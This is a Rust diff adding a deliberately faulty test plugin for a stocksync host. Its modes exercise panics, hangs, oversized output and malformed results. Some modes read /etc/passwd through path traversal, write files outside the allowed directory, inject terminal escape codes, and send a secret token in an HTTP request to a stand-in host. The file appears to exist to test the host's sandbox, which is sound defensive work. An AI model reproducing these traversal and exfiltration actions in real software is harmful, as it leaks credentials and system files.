@@ -1,0 +1,112 @@
+//! What each mode does.
+
+use crate::Faulty;
+use crate::pages::{outcomes, quantity};
+use stocksync_sdk::abi::outcome::{FAILED, SENT};
+use stocksync_sdk::message::{Action, BodyRange, Http};
+use stocksync_sdk::{Answer, Fault};
+
+/// All modes. Those of the boundary itself (bad rows, garbage for JSON) are libraries in C, in `c/`: the SDK lets no such thing out.
+pub(crate) const MODES: &[&str] = &[
+    "good",
+    "panic",
+    "panic-in-open",
+    "panic-in-drop",
+    "refuses-to-open",
+    "endless-actions",
+    "endless-rows",
+    "endless-waits",
+    "huge-output",
+    "many-actions",
+    "unknown-index",
+    "duplicate-index",
+    "missing-items",
+    "lies-outcome",
+    "hang",
+    "wrong-status",
+    "asks-outside",
+    "asks-absolute",
+    "writes-outside",
+    "writes-absolute",
+    "writes-uncommitted",
+    "http-elsewhere",
+    "negative-quantity",
+    "never-done",
+    "secret-echo",
+    "bad-body-range",
+    "unknown-sku",
+    "not-found",
+    "fails-whole",
+    "escapes-in-text",
+];
+
+impl Faulty {
+    pub(crate) fn misbehave(&self) -> Result<Answer, Fault> {
+        let last = self.items.saturating_sub(1);
+        let all: Vec<u32> = (0..self.items).collect();
+        let done = Answer::done();
+        Ok(match self.mode.as_str() {
+            "panic" => explode("on purpose, in `step`"),
+            "hang" => hang(),
+            "wrong-status" => return Err(Fault::wrong_state("not now")),
+            "never-done" => Answer::nothing(),
+            "endless-actions" => Answer::nothing().read_file(self.steps, "stocksync.yaml"),
+            "endless-rows" => Answer::more_rows(self.good()),
+            "endless-waits" => Answer::nothing().action(Action::Wait { id: self.steps, seconds: 0.0 }),
+            "many-actions" => {
+                (0..100_000).fold(Answer::nothing(), |answer, id| answer.read_file(id, "x.csv"))
+            }
+            "huge-output" => Answer { bodies: vec![b'x'; 512 << 20], ..done.rows(self.good()) },
+            "unknown-index" => done.rows(outcomes(&[self.items, u32::MAX], SENT, "")),
+            "duplicate-index" => done.rows(outcomes(&[all, vec![last]].concat(), SENT, "")),
+            "missing-items" => done.rows(outcomes(all.get(1..).unwrap_or_default(), SENT, "")),
+            "lies-outcome" => done.rows(outcomes(&all, 99, "")),
+            "not-found" => done.rows(outcomes(&all, FAILED, "not-found: no such listing")),
+            "secret-echo" => done.rows(outcomes(&all, FAILED, "rejected: {{secret:token}}")),
+            "escapes-in-text" => done.rows(outcomes(&all, FAILED, "rejected: \u{1b}[2J\r\nsent\u{7}")),
+            "negative-quantity" => done.rows(self.quantities(-5)),
+            "unknown-sku" => done.rows(quantity("nobody-asked", 1)),
+            "asks-outside" => Answer::nothing().read_file(1, "../../etc/passwd"),
+            "asks-absolute" => Answer::nothing().read_file(1, "/etc/passwd"),
+            "writes-outside" => writes("../outside.csv").commit(1, "../outside.csv"),
+            "writes-absolute" => writes("/tmp/stocksync-outside.csv").commit(1, "/tmp/stocksync-outside.csv"),
+            "writes-uncommitted" => writes("stores/new.csv")
+                .rows(self.good())
+                .action(Action::Done { error: None, nothing_written: false }),
+            "http-elsewhere" => Answer::nothing().http(elsewhere(), b""),
+            "bad-body-range" => Answer::nothing().action(Action::WriteFile {
+                id: 1,
+                path: "stores/new.csv".to_owned(),
+                append: BodyRange { offset: u64::MAX, len: 2 },
+                commit: true,
+            }),
+            // "good": though no read will show what it says to have sent.
+            _ => done.rows(self.good()),
+        })
+    }
+}
+
+fn writes(path: &str) -> Answer {
+    Answer::nothing().append(1, path, b"gotcha\n")
+}
+
+fn elsewhere() -> Http {
+    Http {
+        id: 1,
+        method: "GET".to_owned(),
+        url: "https://elsewhere.example/{{secret:token}}".to_owned(),
+        ..Http::default()
+    }
+}
+
+#[expect(clippy::panic, reason = "this is what the tests of the host are about")]
+pub(crate) fn explode<T>(message: &str) -> T {
+    panic!("{message}")
+}
+
+/// Does not come back, and takes no time of the processor.
+fn hang() -> ! {
+    loop {
+        std::thread::park();
+    }
+}
